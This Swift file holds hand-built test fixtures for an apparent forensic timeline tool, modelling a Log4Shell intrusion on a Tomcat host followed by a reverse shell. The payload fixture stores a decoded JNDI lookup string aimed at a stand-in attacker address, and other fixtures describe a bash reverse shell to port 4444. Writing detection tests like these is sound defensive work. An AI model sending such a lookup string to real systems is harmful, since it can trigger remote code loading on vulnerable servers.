import Evidence

@testable import Timeline

/// Small cases, built by hand. Addresses are from the documentation ranges.
enum CaseSamples {
  static let attacker = "203.0.113.66"
  static let host = "10.0.2.15"
  static let instance = "i-0b7c4e19d2f35a86e"

  static func artifact(_ name: String) -> Digest { Digest(of: Array(name.utf8)) }

  static func time(_ second: Int64) -> Timestamp {
    Timestamp(nanoseconds: (1_795_584_000 + second) * 1_000_000_000, precision: .second)
  }

  static func line(_ number: Int) -> Locator {
    Locator(offset: UInt64(clamping: number &* 100), length: 90, line: max(number, 1))
  }

  static func payload(_ second: Int64, line number: Int = 1, severity: Severity = .high, port: Int64 = 1389) -> Finding
  {
    var finding = Finding(
      rule: "log4shell.jndi-lookup", title: "Log4Shell payload", severity: severity, attack: ["T1190"],
      firstSeen: time(second), entities: [Entity(.address, attacker)],
      evidence: [EvidenceReference(artifact: artifact("waf"), locator: line(number))],
      message: "The query carries a lookup.")
    finding.attributes.add("decoded", "${jndi:ldap://\(attacker):\(port)/a}")
    finding.attributes.add("scheme", "ldap")
    finding.attributes.add("remote_host", attacker)
    finding.attributes.add("remote_port", port)
    finding.attributes.add("client_ip", attacker)
    return finding
  }

  static func shell(_ second: Int64, pid: Int64 = 465) -> Finding {
    var finding = Finding(
      rule: "memory.reverse-shell", title: "Shell on a socket", severity: .critical, attack: ["T1059.004"],
      firstSeen: time(second),
      entities: [Entity(.process, String(pid)), Entity(.socket, "\(host):51270->\(attacker):4444/tcp")],
      evidence: [EvidenceReference(artifact: artifact("memory"), locator: physical(0x1000))],
      message: "bash has its standard streams on a socket.")
    finding.attributes.add("pid", pid)
    finding.attributes.add("remote_host", attacker)
    finding.attributes.add("remote_port", Int64(4444))
    return finding
  }

  static func physical(_ address: UInt64) -> Locator {
    var locator = Locator()
    locator.physical = address
    return locator
  }

  static func process(_ pid: Int64, parent: Int64, _ name: String, _ command: String, start: Int64) -> Event {
    Event(
      time: time(start), .start, dataType: "linux:memory:process", message: "\(name) started",
      entities: [Entity(.process, String(pid))],
      attributes: [
        Attribute("pid", pid), Attribute("ppid", parent), Attribute("comm", name), Attribute("command_line", command),
      ], locator: physical(UInt64(clamping: pid) << 12))
  }

  static func socket(_ text: String, pid: Int64) -> Event {
    Event(
      time: nil, dataType: "linux:memory:socket", message: text,
      entities: [Entity(.socket, text), Entity(.process, String(pid))], attributes: [Attribute("pid", pid)],
      locator: physical(0x9000_0000 + UInt64(text.utf8.count * 64) + UInt64(clamping: pid)))
  }

  static func flow(_ second: Int64, _ local: String, _ remote: String, action: String = "ACCEPT") -> Event {
    let near = Endpoint(text: local)
    let far = Endpoint(text: remote)
    return Event(
      time: time(second), .start, dataType: "aws:vpcflow:record", message: "\(action) \(local) -> \(remote)",
      entities: [
        Entity(.address, near?.host ?? ""), Entity(.address, far?.host ?? ""),
        Entity(.socket, "\(local)->\(remote)/tcp"),
      ], attributes: [Attribute("action", action)], locator: line(Int(second)))
  }

  static func command(_ second: Int64, _ text: String, pid: Int64) -> Event {
    Event(
      time: time(second), .executed, dataType: "linux:shell:command", message: "pid \(pid) typed: \(text)",
      entities: [Entity(.process, String(pid))], attributes: [Attribute("command", text), Attribute("pid", pid)],
      locator: physical(0x5000_0000 + UInt64(clamping: second)))
  }

  static func request(_ second: Int64, _ uri: String, client: String = attacker, type: String = "aws:waf:request")
    -> Event
  {
    Event(
      time: time(second), dataType: type, message: "GET \(uri) from \(client)", entities: [Entity(.address, client)],
      attributes: [Attribute("client_ip", client), Attribute("http_method", "GET"), Attribute("uri", uri)],
      locator: line(Int(second) + 1))
  }

  static func story(
    _ findings: [Finding], _ events: [(String, Event)], artifacts: [ArtifactRecord] = []
  ) -> Incident {
    let index = CaseIndex(findings: findings)
    for (name, event) in events { _ = index.take(event, artifact(name)) }
    var builder = IncidentBuilder(index: index, artifacts: artifacts, exposures: ExposureList())
    return builder.build(from: findings)
  }

  /// Tomcat, the shell that it started, and what hangs below.
  static let processes: [(String, Event)] = [
    ("memory", process(1, parent: 0, "systemd", "/sbin/init", start: -500)),
    ("memory", process(351, parent: 1, "java", "/usr/bin/java -jar app.jar", start: -400)),
    ("memory", process(460, parent: 351, "bash", "bash -c x", start: 30)),
    ("memory", process(465, parent: 460, "bash", "bash -i", start: 31)),
    ("memory", process(353, parent: 1, "sshd", "sshd: admin", start: -300)),
    ("memory", process(435, parent: 353, "bash", "-bash", start: -200)),
  ]

  static let callback = ("memory", socket("\(host):43418->\(attacker):1389/tcp", pid: 351))
}
